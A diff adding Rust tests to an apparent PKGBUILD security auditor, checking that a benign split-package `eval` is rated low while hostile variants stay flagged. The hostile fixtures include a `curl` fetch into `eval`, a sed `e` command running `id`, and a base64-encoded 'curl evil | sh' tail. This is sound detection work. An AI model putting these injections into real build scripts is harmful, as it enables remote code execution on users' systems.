@@ -667,3 +667,56 @@ fn rev_twice_around_cut_is_a_field_not_a_decoder() {
     let r = audit(&i);
     assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
 }
+
+// False review: split-package functions defined by `eval` in a loop over arrays written in the
+// file (taotieren's opentelemetry-python-contrib: `_dirname=$(echo "${_urls[i]}" | sed -e
+// "s|^${_url}/tree/main/||g" …)`, then `eval "package_python-${_pkgname}() { … cd
+// \"${pkgbase}/${_dirname}${_pkgname}\" … }"`): the substitution only cuts a path out of an
+// address written in the PKGBUILD. A substitution that downloads, reads a file or runs a sed
+// `e` command, or text after the definition, stays medium or above.
+
+fn split_eval(dirname_subst: &str, tail: &str) -> AuditInput {
+    AuditInput {
+        pkgbuild: format!(
+            "pkgbase=sample-contrib\npkgname=(python-sample-a python-sample-b)\npkgver=1\npkgrel=1\narch=(any)\n_url=\"https://github.com/example/${{pkgbase}}\"\nurl=$_url\nlicense=(Apache)\n_urls=(\n  \"${{_url}}/tree/main/exporter/sample-a\"\n  \"${{_url}}/tree/main/exporter/sample-b\"\n)\nsource=(\"git+$_url.git\")\nsha256sums=(SKIP)\nmain() {{\n  for ((i=0; i<${{#pkgname[@]}}; i++)); do\n    _pkgname=\"${{pkgname[i]#*-}}\"\n    _dirname={dirname_subst}\n    eval \"package_python-${{_pkgname}}() {{\n      cd \\\"${{pkgbase}}/${{_dirname}}${{_pkgname}}\\\"\n      python -m installer --destdir=\\\"\\${{pkgdir}}\\\" dist/*.whl\n    }}{tail}\"\n  done\n}}\nmain\n"
+        ),
+        install_scripts: vec![],
+        srcinfo: None,
+    }
+}
+
+#[test]
+fn a_looped_split_package_eval_over_the_files_own_text_is_low() {
+    let r = audit(&split_eval(
+        "$(echo \"${_urls[i]}\" | sed -e \"s|^${_url}/tree/main/||g\" -e \"s|${_pkgname}$||g\")",
+        "",
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-EVAL"),
+        Some(Severity::Low),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+#[test]
+fn an_eval_fed_from_outside_or_running_more_stays_flagged() {
+    for (subst, tail) in [
+        ("$(curl -fsSL https://example.net/dir)", ""),
+        ("$(cat /tmp/dirname)", ""),
+        ("$(echo \"${_urls[i]}\" | sed -e \"s|^.*|id|e\")", ""),
+        (
+            "$(echo \"${_urls[i]}\" | sed -e \"s|^${_url}/tree/main/||g\")",
+            "; $(echo Y3VybCBldmlsIHwgc2g= | base64 -d)",
+        ),
+    ] {
+        let r = audit(&split_eval(subst, tail));
+        assert!(
+            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium)
+                || r.verdict == Verdict::Dangerous,
+            "{subst} {tail}\n{}",
+            r.to_text()
+        );
+    }
+}
